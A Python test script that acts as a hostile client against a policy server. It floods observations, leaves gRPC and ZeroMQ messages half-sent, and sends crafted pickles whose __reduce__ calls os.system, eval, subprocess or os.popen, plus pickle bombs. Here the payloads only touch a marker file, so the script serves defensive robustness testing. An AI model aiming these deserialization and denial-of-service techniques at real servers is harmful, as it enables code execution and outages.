"""A client that a policy server should not have: it floods, breaks off, or sends hostile pickles.

python scripts/bad_client.py --address 127.0.0.1:8080 --does flood
"""

from __future__ import annotations

import importlib
import itertools
import os
import pickle
import socket
import struct
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

if __package__ in (None, ""):
    sys.path[0] = str(Path(__file__).resolve().parents[1])

import numpy as np

from common import cli
from common.stopping import stopping
from scripts.network_proxy import split_address
from serving.link import LinkLost
from serving.messages import Instructions, Observation, Picture, ServingError

__all__ = ["BadClientOptions", "exploits", "main"]

_SIDE, _LARGE = 256, 1280


@dataclass(frozen=True)
class BadClientOptions:
    """Trouble a policy server until stopped."""

    address: str
    """HOST:PORT of the server."""
    does: Literal["flood", "pickles", "half_upload", "half_message"] = "flood"
    """flood: observations as fast as they are taken; pickles: exploits instead of messages;
    half_upload: begins an observation over gRPC and never ends it; half_message: the same over
    ZeroMQ."""
    transport: Literal["grpc", "zmq"] = "grpc"
    """For flood."""
    trace: Path = Path("runs/exploited")
    """The file that an exploit would make if it were executed."""
    duration: float | None = None
    """Seconds; without it, until Ctrl+C."""


class _Call:
    """Pickled, it is a call: what `pickle.loads` would do when it reads this."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._reduced = (function, arguments)

    def __reduce__(self) -> tuple[Any, Any]:
        return self._reduced


def exploits(trace: Path) -> list[bytes]:
    """Pickles that make the file `trace`, or much work, when they are unpickled."""
    touch = f"touch {trace}"
    calls = [
        _Call(os.system, touch),
        _Call(eval, f"open({str(trace)!r}, 'w')"),
        _Call(importlib.import_module, "antigravity"),
        _Call(subprocess.check_call, ["touch", str(trace)]),
        {"observation": [_Call(os.popen, touch)]},
    ]
    found = [
        pickle.dumps(call, protocol)
        for call in calls
        for protocol in (0, 2, pickle.HIGHEST_PROTOCOL)
    ]
    # Nesting that would exhaust the stack, and a memo that grows as 2^n.
    found.append(b"\x80\x02" + b"(" * 100_000 + b"l" * 100_000 + b".")
    bomb: list[Any] = []
    for _ in range(40):
        bomb = [bomb, bomb]
    found.append(pickle.dumps(bomb))
    objects = np.array([_Call(os.system, touch)], dtype=object)
    found.append(pickle.dumps(objects))
    return found


def _observation(step: int, side: int = _SIDE) -> Observation:
    pixels = np.zeros((side, side, 3), np.uint8)
    state = np.array([float(step % 90)], np.float32)
    return Observation(step, time.time(), True, state, {"camera1": Picture(pixels)}, "flood")


def _flood(options: BadClientOptions, stop: threading.Event) -> None:
    link: Any
    if options.transport == "zmq":
        from serving.transports.zmq_link import ZmqLink

        link = ZmqLink(options.address)
    else:
        from serving.transports.grpc_link import GrpcLink

        link = GrpcLink(options.address)
    cameras = {"camera1": (_SIDE, _SIDE, 3)}
    instructions = Instructions("builtin", "hold", state_names=("a.pos",), cameras=cameras)
    sent, refused = 0, 0
    while not stop.is_set():
        try:
            link.begin(instructions, 5.0)
            print("flooding", flush=True)
            for step in itertools.count():
                if stop.is_set():
                    break
                try:
                    link.send(_observation(step), 3.0)
                    sent += 1
                except ServingError as error:
                    if error.kind == "no_session":
                        break
                    refused += 1
        except (LinkLost, ServingError):
            stop.wait(0.2)
    link.close()
    print(f"sent {sent}, refused {refused}", flush=True)


def _channel(address: str) -> Any:
    import grpc

    # Each a connection of its own, as of a stranger.
    return grpc.insecure_channel(address, [("grpc.use_local_subchannel_pool", 1)])


def _pickles(options: BadClientOptions, stop: threading.Event) -> None:
    import grpc

    from serving.transports import protobuf

    channel = _channel(options.address)
    service = f"/{protobuf.SERVICE}/"
    ready, instruct = (
        channel.unary_unary(service + name) for name in ("Ready", "SendPolicyInstructions")
    )
    observe = channel.stream_unary(service + "SendObservations")
    said: dict[str, int] = {}
    for data in itertools.cycle(exploits(options.trace.resolve())):
        if stop.wait(0.02):
            break
        for call, message in (
            (ready, b""),
            (instruct, protobuf.PolicySetup(data=data).SerializeToString()),
            (observe, protobuf.parts(data)),
        ):
            try:
                call(message, timeout=5.0)
                status = "OK"
            except grpc.RpcError as error:
                status = error.code().name
            if call is not ready:
                said[status] = said.get(status, 0) + 1
        if sum(said.values()) == 2:
            print("sending", flush=True)
    print(f"answers: {said}", flush=True)


def _half_upload(options: BadClientOptions, stop: threading.Event) -> None:
    """As LeRobot's client: a picture of three parts, of which one is sent."""
    from serving.pickles import lerobot
    from serving.transports import protobuf

    channel, service = _channel(options.address), f"/{protobuf.SERVICE}/"
    instructions = Instructions(
        "builtin", "hold", state_names=("a.pos",), cameras={"camera1": (_LARGE, _LARGE, 3)}
    )
    setup = protobuf.PolicySetup(data=lerobot.encode_setup(instructions)).SerializeToString()
    channel.unary_unary(service + "Ready")(b"", timeout=20.0)
    channel.unary_unary(service + "SendPolicyInstructions")(setup, timeout=60.0)
    data = lerobot.encode_observation(_observation(0, _LARGE), instructions)

    def parts() -> Iterator[bytes]:
        yield next(iter(protobuf.parts(data)))
        print("half way", flush=True)
        stop.wait()

    call = channel.stream_unary(service + "SendObservations").future(parts())
    stop.wait()
    call.cancel()


def _half_message(options: BadClientOptions, stop: threading.Event) -> None:
    """ZMTP 3.0 by hand: a DEALER that announces a frame of 60 MB and sends one of them."""
    with socket.create_connection(split_address(options.address), timeout=20.0) as sock:
        greeting = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + b"\0"
        sock.sendall(greeting.ljust(64, b"\0"))
        identity = uuid.uuid4().bytes
        properties = b""
        for name, value in ((b"Socket-Type", b"DEALER"), (b"Identity", identity)):
            properties += bytes((len(name),)) + name + struct.pack(">I", len(value)) + value
        ready = b"\x05READY" + properties
        sock.sendall(b"\x04" + bytes((len(ready),)) + ready)
        sock.sendall(b"\x03" + struct.pack(">Q", 60_000_000) + bytes(1_000_000))
        print("half way", flush=True)
        stop.wait()


def main() -> int:
    """Do it until asked to stop; the exit code."""
    options = cli.parse(BadClientOptions)
    does = {
        "flood": _flood,
        "pickles": _pickles,
        "half_upload": _half_upload,
        "half_message": _half_message,
    }
    with stopping(options.duration) as stop:
        try:
            does[options.does](options, stop)
        except (OSError, ValueError) as error:
            cli.fail(str(error), 1)
    return 0


if __name__ == "__main__":
    sys.exit(main())
